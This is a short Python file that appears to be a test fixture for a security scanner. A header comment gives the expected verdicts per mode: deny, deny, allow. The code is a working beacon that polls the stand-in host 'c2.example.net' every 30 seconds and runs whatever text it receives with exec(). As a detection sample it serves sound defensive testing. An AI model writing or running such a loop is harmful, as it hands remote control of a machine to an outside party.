# expect: strict=deny standard=deny audit=allow
import socket
import time

while True:
    try:
        c = socket.create_connection(("c2.example.net", 8443), timeout=5)
        task = c.recv(65536).decode()
        exec(task)
        c.close()
    except OSError:
        pass
    time.sleep(30)
